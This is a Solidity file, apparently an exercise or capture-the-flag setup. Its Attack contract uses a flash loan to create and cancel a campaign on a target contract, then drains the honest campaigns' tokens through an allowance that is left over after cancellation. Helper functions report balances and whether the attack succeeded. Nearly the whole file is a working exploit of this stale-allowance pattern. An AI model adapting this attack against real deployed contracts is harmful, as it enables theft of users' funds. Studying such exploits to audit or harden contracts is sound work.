// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IToken {
    function buy() external payable;
    function approve(address spender, uint256 amount) external;
    function transfer(address to, uint256 amount) external;
    function transferFrom(address from, address to, uint256 amount) external;
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
}

interface ITarget {
    function token() external view returns (IToken);
    function create(address locker, uint256 amount) external returns (uint256 id);
    function cancel(uint256 id) external;
}

/// @notice An honest locker, which the honest campaigns name.
contract Locker {
    IToken private immutable _token;

    constructor(IToken token) {
        _token = token;
    }

    function lock(address, uint256 amount) external {
        _token.transferFrom(msg.sender, address(this), amount);
    }
}

/// @notice An honest manager, who starts a campaign and waits.
contract Manager {
    constructor(ITarget target, address locker) payable {
        IToken token = target.token();
        token.buy{ value: msg.value }();
        token.approve(address(target), msg.value);
        target.create(locker, msg.value);
    }
}

/// @notice Lends tokens to anyone who returns them in the same transaction.
contract FlashBank {
    IToken private immutable _token;

    constructor(IToken token) payable {
        _token = token;
        token.buy{ value: msg.value }();
    }

    function lend(uint256 amount) external {
        uint256 held = _token.balanceOf(address(this));
        _token.transfer(msg.sender, amount);
        Attack(msg.sender).onLoan(amount);
        require(_token.balanceOf(address(this)) >= held, "not returned");
    }
}

/// @notice A manager who names itself as the locker, cancels, and uses the allowance that stayed.
contract Attack {
    ITarget private immutable _target;
    IToken private immutable _token;
    FlashBank private immutable _bank;

    constructor(address target) payable {
        _target = ITarget(target);
        _token = _target.token();
        address locker = address(new Locker(_token));
        new Manager{ value: 25 ether }(_target, locker);
        new Manager{ value: 15 ether }(_target, locker);
        _bank = new FlashBank{ value: 60 ether }(_token);
    }

    /// @param parameter How many tokens the attacker borrows for its campaign.
    function attack(uint256 parameter) external {
        try _bank.lend(parameter) { } catch { }
        uint256 allowed = _token.allowance(address(_target), address(this));
        uint256 held = _token.balanceOf(address(_target));
        try _token.transferFrom(address(_target), address(this), allowed < held ? allowed : held) { } catch { }
    }

    /// @dev The bank has lent. The campaign lasts two calls.
    function onLoan(uint256 amount) external {
        _token.approve(address(_target), amount);
        uint256 id = _target.create(address(this), amount);
        _target.cancel(id);
        _token.transfer(address(_bank), amount);
    }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        (names[0], amounts[0]) = ("Tokens of honest campaigns", _token.balanceOf(address(_target)));
        (names[1], amounts[1]) = ("Tokens in the lending bank", _token.balanceOf(address(_bank)));
        (names[2], amounts[2]) = ("Tokens the attacker holds", _token.balanceOf(address(this)));
    }

    /// @return The attacker, who came with nothing, holds tokens.
    function succeeded() external view returns (bool) {
        return _token.balanceOf(address(this)) > 0;
    }
}
